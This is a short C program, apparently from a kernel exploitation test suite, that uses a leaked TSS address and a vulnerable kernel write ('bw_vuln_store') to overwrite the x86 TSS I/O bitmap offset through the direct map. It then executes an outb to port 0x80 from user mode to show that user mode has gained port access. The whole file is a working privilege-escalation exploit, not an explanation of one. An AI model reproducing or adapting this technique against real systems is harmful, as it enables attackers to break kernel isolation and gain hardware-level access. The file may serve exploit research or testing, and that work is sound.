/* The processor's TSS says which ports user mode may use: it is overwritten through the direct map.
 */
#include "attack.h"

/* The same as the TSS's own first byte: a map of ports that are all allowed, as its bytes are 0. */
enum { NO_OFFSET = 0, PORT_UNUSED = 0x80 };

int main(void)
{
	struct bw_leak leak;

	attack_begin(&leak, 1, 0);
	attack_say("the TSS says where its I/O map is at 0x%lx: behind its end", leak.tss_io_map);
	attack_check("vuln_store", bw_vuln_store(leak.tss_io_map, NO_OFFSET, sizeof(uint16_t)));
	attack_say("now at its beginning: user mode writes to port 0x%x", PORT_UNUSED);
	__asm__ volatile("outb %%al, %1" : : "a"(0), "N"(PORT_UNUSED));
	return attack_finish();
}
